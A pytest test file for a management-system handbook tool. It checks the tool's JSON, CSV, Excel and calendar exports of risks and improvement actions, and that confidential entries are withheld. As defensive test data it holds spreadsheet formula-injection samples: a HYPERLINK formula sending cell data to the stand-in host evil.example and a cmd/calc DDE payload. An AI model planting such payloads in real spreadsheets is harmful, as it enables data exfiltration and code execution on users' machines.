"""The Check and Act exports: improvement.json and risks.json at the site's root, the same
data from `sms-handbook export --what improvement|risks` (JSON, CSV, Excel), and the
actions' due dates and the next management review in reviews.ics.

An entry classified above the site's limit appears by id only, everywhere: its text
reaches no file of the site and no export but those made with `--all`.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import zipfile
from datetime import date, datetime, timezone

import pytest
from openpyxl import load_workbook

from conftest import EPOCH_2026_11_27, PROJECT, HandbookDir, committed, copy_exemplar
from sms_handbook.core.site import check_act_exports, exports
from sms_handbook.core.site.layout import Layout
from sms_handbook.core.site.site_data import prepare

ENV = {"SOURCE_DATE_EPOCH": EPOCH_2026_11_27}  # today: 2026-11-27
TODAY, NOW = date(2026, 11, 27), datetime(2026, 11, 27, 12, tzinfo=timezone.utc)

#: RSK-004 is confidential in the exemplar; the test copy gives it a description and a
#: confidential treatment action. None of this text may be published.
SECRET_TITLE = "Ransomware reaching the customers"
SECRET_DESCRIPTION = "service account can delete the vault copies"
SECRET_ACTION = "Move the vault behind a separate administrative domain"
SECRET_NOTES = "The vault console is reachable from the office network"
SECRETS = (SECRET_TITLE, SECRET_DESCRIPTION, SECRET_ACTION, SECRET_NOTES)
WITHHELD_ACTION = "ACT-2026-007"

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CALC = "+cmd|' /C calc'!A0"
CORRECTION = "-restart the audit trail"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _fernhill(root) -> HandbookDir:
    """The exemplar with a withheld description and action, and formula-like text."""
    handbook = copy_exemplar(root)
    handbook.replace(
        "data/risks.yml",
        "    reviewed_on: 2026-11-02\n    status: open\n    classification: confidential\n",
        "    description: The backup agent's "
        + SECRET_DESCRIPTION
        + ".\n"
        + f"    actions: [{WITHHELD_ACTION}]\n"
        + "    reviewed_on: 2026-11-02\n    status: open\n    classification: confidential\n",
    )
    handbook.replace(
        "data/risks.yml",
        "title: Customers' users solve common requests themselves",
        f"title: {json.dumps(CALC)}",
    )
    actions = handbook.read("data/actions.yml").replace(
        "title: Publish the service desk knowledge base to customers' users",
        f"title: {json.dumps(HYPERLINK)}",
    )
    handbook.write(
        "data/actions.yml",
        actions
        + f"\n  - id: {WITHHELD_ACTION}\n    title: {SECRET_ACTION}\n    kind: risk-treatment\n"
        "    owner: knakamura\n    raised_on: 2026-11-02\n    due: 2026-12-11\n"
        f"    status: open\n    notes: {SECRET_NOTES}.\n    classification: confidential\n",
    )
    handbook.replace(
        "data/nonconformities.yml",
        "    documents: [POL-002]\n",
        f"    documents: [POL-002]\n    correction: {json.dumps(CORRECTION)}\n",
    )
    return committed(handbook)


@pytest.fixture(scope="module")
def fernhill(tmp_path_factory: pytest.TempPathFactory) -> HandbookDir:
    """The changed exemplar, built strict on 2026-11-27."""
    handbook = _fernhill(tmp_path_factory.mktemp("check-act") / "exemplar")
    done = handbook.build(env=ENV)
    assert done.returncode == 0, done.stderr
    return handbook


def exported(handbook: HandbookDir, what: str, format: str, *more: str) -> bytes:
    out = handbook.path(f"out/{what}-{format}{''.join(more)}.{format}")
    out.parent.mkdir(exist_ok=True)
    done = handbook.cli(
        "export", "--what", what, "--format", format, "-o", str(out), "--force", *more, env=ENV
    )
    assert done.returncode == 0, done.stdout + done.stderr
    return out.read_bytes()


def csv_rows(data: bytes) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    for row in rows:
        assert not any(v.startswith(DANGEROUS) for v in row.values()), row
    return rows


def sheets(data: bytes) -> dict[str, list[dict[str, object]]]:
    """Each sheet's rows (cells by column name); no cell of any sheet is a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name)
    found = {}
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        header, *rows = sheet.iter_rows()
        assert all(cell.data_type != "f" for row in rows for cell in row)
        found[sheet.title] = [{h.value: c for h, c in zip(header, r, strict=True)} for r in rows]
    return found


def xlsx_text(data: bytes) -> str:
    book = load_workbook(io.BytesIO(data))
    return "\n".join(
        str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row if c.value
    )


# --- the site's files -----------------------------------------------------------------


def test_improvement_json_holds_every_action_with_its_state(fernhill: HandbookDir) -> None:
    data = json.loads(fernhill.read("site/improvement.json"))
    assert list(data) == ["organization", "generated", "nonconformities", "actions"]
    assert data["generated"].startswith("2026-11-27T")
    ncs = data["nonconformities"]
    assert [n["id"] for n in ncs] == ["NC-2026-001", "NC-2026-002", "NC-2026-003"]
    first = ncs[0]
    assert list(first) == list(check_act_exports.NONCONFORMITY_FIELDS)
    assert first["raised_on"] == "2026-11-27" and first["clauses"] == ["7.5", "7.5.3"]
    assert first["actions"] == ["ACT-2026-001", "ACT-2026-002"] and first["published"] is True
    assert first["closed_on"] is None and first["status"] == "open"
    actions = {a["id"]: a for a in data["actions"]}
    assert list(actions) == sorted(actions)
    assert list(actions["ACT-2026-004"]) == list(check_act_exports.ACTION_FIELDS)
    states = {k: a["state"] for k, a in actions.items()}
    assert states == {
        "ACT-2026-001": "open",
        "ACT-2026-002": "awaiting-verification",  # corrective, done, not yet verified
        "ACT-2026-003": "open",
        "ACT-2026-004": "overdue",  # due 2026-11-20, in progress
        "ACT-2026-005": "closed",
        "ACT-2026-006": "open",
        WITHHELD_ACTION: None,
    }
    late = actions["ACT-2026-004"]
    assert late["origins"] == [
        {"kind": "risk", "id": "RSK-001"},
        {"kind": "management-review", "id": "MR-2026-1"},
    ]
    assert (late["owner"], late["owner_name"], late["due"]) == (
        "gevans",
        "Gareth Evans",
        "2026-11-20",
    )
    assert late["effectiveness"] is None and late["done_on"] is None
    assert actions["ACT-2026-005"]["done_on"] == "2026-09-24"
    hidden = actions[WITHHELD_ACTION]
    assert hidden["published"] is False and hidden["origins"] == []
    assert all(v is None for k, v in hidden.items() if k not in ("id", "published", "origins"))


def test_risks_json_rates_every_risk(fernhill: HandbookDir) -> None:
    data = json.loads(fernhill.read("site/risks.json"))
    assert list(data) == ["organization", "generated", "criteria", "risks"]
    assert data["criteria"] == {
        "likelihood": ["rare", "unlikely", "possible", "likely", "almost-certain"],
        "impact": ["minor", "moderate", "major", "severe"],
        "appetite": 6,
    }
    risks = {r["id"]: r for r in data["risks"]}
    assert list(risks) == ["OPP-001", "RSK-001", "RSK-002", "RSK-003", "RSK-004", "RSK-005"]
    assert list(risks["RSK-001"]) == list(check_act_exports.RISK_FIELDS)
    accepted = risks["RSK-003"]  # almost-certain (5) x moderate (2), above the appetite
    assert (accepted["rating"], accepted["current_rating"], accepted["above_appetite"]) == (
        10, 10, True,
    )  # fmt: skip
    assert accepted["acceptance"] == {
        "by": "amorgan",
        "on": "2026-10-20",
        "notes": "Accepted until the finance system goes live in March 2027.",
    }
    treated = risks["RSK-002"]  # treated: it stands at its residual level
    assert treated["residual"] == {"likelihood": "unlikely", "impact": "moderate", "rating": 4}
    assert (treated["rating"], treated["current_rating"], treated["above_appetite"]) == (
        9,
        4,
        False,
    )
    assert risks["RSK-001"]["above_appetite"] is True  # open: not yet at its residual level
    assert risks["OPP-001"]["above_appetite"] is False  # never for an opportunity
    hidden = risks["RSK-004"]
    assert hidden["published"] is False and hidden["clauses"] == [] and hidden["actions"] == []
    assert all(
        v is None for k, v in hidden.items() if k not in ("id", "published", "clauses", "actions")
    )


def test_withheld_text_reaches_no_file_of_the_site(fernhill: HandbookDir) -> None:
    site = fernhill.path("site")
    for path in site.rglob("*"):
        if path.is_file() and path.suffix != ".gz":
            data = path.read_bytes()
            for secret in SECRETS:
                assert secret.encode() not in data, (path, secret)
    assert b'"RSK-004"' in (site / "risks.json").read_bytes()
    assert f'"{WITHHELD_ACTION}"'.encode() in (site / "improvement.json").read_bytes()


def test_the_cli_gives_the_sites_json(fernhill: HandbookDir) -> None:
    for what in ("improvement", "risks"):
        done = fernhill.cli("export", "--what", what, "--format", "json", env=ENV)
        assert done.returncode == 0, done.stderr
        assert done.stdout == fernhill.read(f"site/{what}.json"), what


def test_no_export_holds_withheld_text_but_with_all(fernhill: HandbookDir) -> None:
    for what in ("improvement", "risks"):
        for format in ("json", "csv", "xlsx"):
            data = exported(fernhill, what, format)
            text = xlsx_text(data) if format == "xlsx" else data.decode()
            for secret in SECRETS:
                assert secret not in text, (what, format, secret)
            if what == "risks":
                assert "RSK-004" in text, format
            elif format != "csv":  # the CSV holds the nonconformities only
                assert WITHHELD_ACTION in text, format
    risks = json.loads(exported(fernhill, "risks", "json", "--all"))
    hidden = next(r for r in risks["risks"] if r["id"] == "RSK-004")
    assert hidden["published"] is True and hidden["title"].startswith(SECRET_TITLE)
    assert SECRET_DESCRIPTION in hidden["description"] and hidden["rating"] == 12
    assert hidden["actions"] == [WITHHELD_ACTION]
    improvement = json.loads(exported(fernhill, "improvement", "json", "--all"))
    action = next(a for a in improvement["actions"] if a["id"] == WITHHELD_ACTION)
    assert (action["title"], action["state"]) == (SECRET_ACTION, "open")
    assert action["origins"] == [{"kind": "risk", "id": "RSK-004"}]
    assert SECRET_TITLE in xlsx_text(exported(fernhill, "risks", "xlsx", "--all"))


def test_csv_and_xlsx_neutralise_formula_like_text(fernhill: HandbookDir) -> None:
    ncs = {r["id"]: r for r in csv_rows(exported(fernhill, "improvement", "csv"))}
    assert list(ncs) == ["NC-2026-001", "NC-2026-002", "NC-2026-003"]
    assert ncs["NC-2026-002"]["correction"] == "'" + CORRECTION
    first = ncs["NC-2026-001"]
    assert first["actions"] == "ACT-2026-001 (open); ACT-2026-002 (awaiting-verification)"
    assert first["clauses"] == "7.5; 7.5.3" and first["documents"] == "POL-006; PRC-007"
    book = sheets(exported(fernhill, "improvement", "xlsx"))
    assert list(book) == ["Nonconformities", "Actions"]
    actions = {r["id"].value: r for r in book["Actions"]}
    title = actions["ACT-2026-006"]["title"]
    assert (title.value, title.data_type, title.quotePrefix) == (HYPERLINK, "s", True)
    assert actions["ACT-2026-004"]["state"].value == "overdue"
    assert actions["ACT-2026-004"]["origins"].value == "risk RSK-001; management-review MR-2026-1"
    assert isinstance(actions["ACT-2026-004"]["due"].value, datetime)
    assert actions[WITHHELD_ACTION]["title"].value is None
    correction = {r["id"].value: r for r in book["Nonconformities"]}["NC-2026-002"]["correction"]
    assert correction.value == CORRECTION and correction.quotePrefix
    risks = {r["id"]: r for r in csv_rows(exported(fernhill, "risks", "csv"))}
    assert risks["OPP-001"]["title"] == "'" + CALC
    assert risks["RSK-004"]["title"] == "" and risks["RSK-004"]["published"] == "False"
    assert risks["RSK-003"]["accepted_by"] == "amorgan" and risks["RSK-003"]["rating"] == "10"
    (register,) = sheets(exported(fernhill, "risks", "xlsx")).values()
    cells = {r["id"].value: r for r in register}
    assert cells["OPP-001"]["title"].value == CALC and cells["OPP-001"]["title"].quotePrefix
    assert (cells["RSK-003"]["rating"].data_type, cells["RSK-003"]["rating"].value) == ("n", 10)
    assert isinstance(cells["RSK-003"]["reviewed_on"].value, datetime)


def test_the_calendar_holds_actions_and_the_next_management_review(fernhill: HandbookDir) -> None:
    from icalendar import Calendar

    calendar = Calendar.from_ical(fernhill.path("site/reviews.ics").read_bytes())
    events = {str(e["SUMMARY"]): e for e in calendar.walk("VEVENT")}
    uids = [str(e["UID"]) for e in calendar.walk("VEVENT")]
    assert len(uids) == len(set(uids))
    assert any(s.startswith("Review due: ") for s in events)  # the documents' reviews stay
    late = events[
        "Action due: ACT-2026-004 Test fail-over of managed hosting from Avonmouth to Swindon"
    ]
    assert late["DTSTART"].dt == date(2026, 11, 20)
    assert (
        str(late["DESCRIPTION"]) == "Owner: Gareth Evans (Infrastructure manager). State: overdue."
    )
    assert str(late["UID"]) == "ACT-2026-004-due-2026-11-20@sms-handbook"
    hidden = events[f"Action due: {WITHHELD_ACTION}"]  # by id alone
    assert hidden["DTSTART"].dt == date(2026, 12, 11) and "DESCRIPTION" not in hidden
    assert not any("ACT-2026-005" in s for s in events)  # closed
    assert any("ACT-2026-002" in s for s in events)  # awaiting verification: not closed
    review = events["Management review: MR-2027-1"]
    assert review["DTSTART"].dt == date(2027, 1, 21)
    assert str(review["UID"]) == "MR-2027-1-management-review-2027-01-21@sms-handbook"
    assert "Management review due" not in events  # one is planned


# --- the calendar, without a build ----------------------------------------------------


@pytest.fixture(scope="module")
def site():
    """The exemplar's site data on 2026-11-27 (no history)."""
    handbook = HandbookDir(PROJECT).load().handbook
    assert handbook is not None
    return prepare(handbook, Layout(), PROJECT, PROJECT / "content", environ=ENV, revisions=False)


def _calendar(site, handbook, url: str = "", now: datetime = NOW) -> bytes:
    return exports.reviews_ics(
        site.register, handbook, site.layout, now, url, max_classification="internal"
    )


def test_the_documents_events_are_unchanged(site) -> None:
    bare = dataclasses.replace(site.handbook, actions=(), management_reviews=())
    before = _calendar(site, bare)
    after = _calendar(site, site.handbook)
    end = b"END:VCALENDAR\r\n"
    assert before.endswith(end) and b"Review due: " in before
    assert after.startswith(before.removesuffix(end)) and len(after) > len(before)
    assert b"Action due: " not in before and b"Management review" not in before


def test_the_management_review_due_when_none_is_planned(site) -> None:
    from icalendar import Calendar

    held = tuple(r for r in site.handbook.management_reviews if r.date <= TODAY)
    handbook = dataclasses.replace(site.handbook, management_reviews=held)
    url = "https://intranet.example/sms/"
    calendar = Calendar.from_ical(_calendar(site, handbook, url))
    (due,) = [e for e in calendar.walk("VEVENT") if str(e["SUMMARY"]) == "Management review due"]
    assert due["DTSTART"].dt == date(2027, 6, 18)  # MR-2026-1 plus twelve months
    assert str(due["UID"]) == "management-review-due-2027-06-18@intranet.example"
    assert str(due["URL"]) == url + "management-review/"
    assert "MR-2026-1" in str(due["DESCRIPTION"])
    nothing = dataclasses.replace(site.handbook, management_reviews=())
    assert b"Management review" not in _calendar(site, nothing)


def test_the_uids_are_stable(site) -> None:
    first = _calendar(site, site.handbook, now=datetime(2026, 11, 27, 8, tzinfo=timezone.utc))
    second = _calendar(site, site.handbook, now=datetime(2026, 11, 27, 18, tzinfo=timezone.utc))
    assert [x for x in first.split(b"\r\n") if x.startswith(b"UID:")] == [
        x for x in second.split(b"\r\n") if x.startswith(b"UID:")
    ]


def test_risks_without_criteria_have_no_ratings(site) -> None:
    handbook = dataclasses.replace(site.handbook, risk_criteria=None)
    data = json.loads(check_act_exports.risks_json(handbook, NOW, "internal"))
    assert data["criteria"] is None
    first = data["risks"][0]
    assert first["rating"] is None and first["above_appetite"] is None and first["title"]


# --- a handbook without Check and Act -------------------------------------------------


def test_the_files_are_written_empty_without_the_data(minimal: HandbookDir) -> None:
    done = minimal.build(env=ENV)
    assert done.returncode == 0, done.stderr
    improvement = json.loads(minimal.read("site/improvement.json"))
    assert (improvement["nonconformities"], improvement["actions"]) == ([], [])
    risks = json.loads(minimal.read("site/risks.json"))
    assert (risks["criteria"], risks["risks"]) == (None, [])
    calendar = minimal.read("site/reviews.ics")
    assert "Action due" not in calendar and "Management review" not in calendar
    xlsx = sheets(exported(minimal, "improvement", "xlsx"))
    assert xlsx == {"Nonconformities": [], "Actions": []}
    assert exported(minimal, "risks", "csv").decode().startswith("id,kind,title,")
